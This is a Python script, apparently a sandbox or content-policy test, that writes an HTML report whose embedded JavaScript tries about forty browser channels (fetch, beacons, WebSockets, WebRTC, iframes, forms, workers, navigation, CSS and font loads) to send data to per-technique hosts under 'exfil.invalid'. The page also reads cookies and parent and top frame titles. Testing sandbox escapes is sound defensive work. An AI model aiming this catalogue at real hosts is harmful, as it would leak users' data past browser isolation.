"""Writes a report that tries to send what it contains to other hosts, in every way that a browser has."""
import argparse

argparse.ArgumentParser(description="Writes a report that tries to reach the network.").parse_args()

# Each attempt uses a host of its own, so that a log of the browser shows which one reached the network.
attempts = r"""
const at = (name) => "https://" + name + ".exfil.invalid/?data";
const tried = [];
const attempt = (name, work) => {
  try { Promise.resolve(work(at(name))).catch(() => 0); } catch {}
  tried.push(name);
};
const html = (text) => document.body.insertAdjacentHTML("beforeend", text);
const element = (tag, properties, parent = document.head) => {
  const created = Object.assign(document.createElement(tag), properties);
  parent.append(created);
  return created;
};
const page = (url) => `<script>fetch("${url}", { mode: "no-cors" }).catch(() => 0)</` + `script>`;
attempt("fetch", (url) => fetch(url, { mode: "no-cors" }));
attempt("xhr", (url) => { const request = new XMLHttpRequest(); request.open("GET", url); request.send(); });
attempt("beacon", (url) => navigator.sendBeacon(url, "x"));
attempt("websocket", (url) => new WebSocket(url.replace("https", "wss")));
attempt("eventsource", (url) => new EventSource(url));
attempt("webtransport", (url) => new WebTransport(url));
attempt("image", (url) => { new Image().src = url; });
attempt("script", (url) => element("script", { src: url }));
attempt("import", (url) => import(url));
attempt("stylesheet", (url) => element("link", { rel: "stylesheet", href: url }));
attempt("css", (url) => html(`<div style="background: url(${url})">x</div>`));
attempt("cssimport", (url) => html(`<style>@import url(${url});</style>`));
attempt("font", (url) => html(`<style>@font-face { font-family: q; src: url(${url}) } p { font-family: q }</style><p>x</p>`));
attempt("iframe", (url) => html(`<iframe src="${url}"></iframe>`));
attempt("object", (url) => html(`<object data="${url}"></object>`));
attempt("embed", (url) => html(`<embed src="${url}">`));
attempt("video", (url) => html(`<video src="${url}" autoplay></video>`));
for (const rel of ["prefetch", "modulepreload", "prerender", "manifest", "icon", "dns-prefetch", "preconnect"])
  attempt(rel, (url) => element("link", { rel, href: url }));
attempt("preload", (url) => element("link", { rel: "preload", as: "image", href: url }));
attempt("speculation", (url) => element("script", {
  type: "speculationrules",
  textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] }),
}));
attempt("popup", (url) => window.open(url));
attempt("blank", (url) => element("a", { href: url, target: "_blank" }).click());
attempt("ping", (url) => element("a", { href: "#x", ping: url }).click());
attempt("top", (url) => { window.top.location.href = url; });
attempt("toplink", (url) => element("a", { href: url, target: "_top" }).click());
attempt("parent", (url) => { window.parent.location.href = url; });
attempt("form", (url) => element("form", { action: url }, document.body).submit());
attempt("topform", (url) => element("form", { action: url, target: "_top" }, document.body).submit());
attempt("worker", (url) => new Worker(URL.createObjectURL(new Blob([`fetch("${url}").catch(() => 0); importScripts("${url}")`]))));
attempt("blobframe", (url) => element("iframe", { src: URL.createObjectURL(new Blob([page(url)], { type: "text/html" })) }, document.body));
attempt("dataframe", (url) => element("iframe", { src: "data:text/html," + encodeURIComponent(page(url)) }, document.body));
attempt("srcdoc", (url) => element("iframe", { srcdoc: page(url) }, document.body));
attempt("rtc", async () => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:rtc.exfil.invalid:3478" }] });
  connection.createDataChannel("x");
  await connection.setLocalDescription(await connection.createOffer());
});
const access = (work) => { try { return String(work()); } catch (error) { return error.name; } };
const own = [
  self.origin,
  access(() => window.parent.document.title),
  access(() => window.top.document.title),
  document.cookie,
  location.pathname.split("/")[1],
];
document.getElementById("own").textContent = JSON.stringify(own);
document.getElementById("tried").textContent = "Tried " + tried.length + " ways";
setTimeout(() => attempt("refresh", (url) => html(`<meta http-equiv="refresh" content="0;url=${url}">`)), 700);
setTimeout(() => attempt("self", (url) => { location.href = url; }), 1400);
"""
with open("report.html", "w") as file:
    file.write(f"<!doctype html><title>Report</title><body><p id=own></p><p id=tried></p><script>{attempts}</script>")
